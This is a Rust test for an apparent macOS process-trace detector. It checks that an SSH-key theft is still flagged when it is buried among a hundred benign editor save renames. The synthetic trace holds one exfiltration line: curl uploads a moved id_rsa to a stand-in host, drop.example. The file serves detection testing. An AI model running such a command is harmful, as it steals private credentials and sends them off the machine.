//! What few moved folders hold is not forgotten for many that hold little.

use std::fmt::Write;

use tollgate_trace as trace;

use crate::drive::{Drive, Rows, drive};

#[test]
fn saved_documents_do_not_hide_a_moved_folder() {
    let mut text = String::from(
        "host mac\nday 2026-03-01\nprocess zsh pid=400 platform com.apple.zsh /bin/zsh\n\
         process editor pid=500 dev TEAM com.example.editor /Applications/Editor.app/Contents/MacOS/Editor\n\
         09:00:00 rename 400 /Users/ana/.ssh -> /private/tmp/s\n",
    );
    for number in 0..100 {
        let name = format!("/Users/ana/Documents/note{number}");
        writeln!(text, "09:{:02}:{:02} rename 500 {name}.sb-1a2b-x -> {name}", 1 + number / 60, number % 60).unwrap();
    }
    for line in [
        "09:10:00 fork 400 -> 600",
        "09:10:00.010 exec 600 platform com.apple.curl /usr/bin/curl : curl -T /tmp/s/id_rsa https://drop.example/",
        "09:10:00.020 read 600 /private/tmp/s/id_rsa size=2000",
        "09:10:01 exit 600",
    ] {
        writeln!(text, "{line}").unwrap();
    }
    let (found, usage) = drive(&trace::parse(&text).unwrap(), Drive { rows: Rows::First, restore_after: None });
    assert!(usage.shed >= 36, "{} of 101 are too many for the room", usage.shed);
    assert_eq!(found.len(), 1);
    assert!(found[0].categories.iter().any(|category| category == "ssh-keys"), "{:?}", found[0].categories);
}
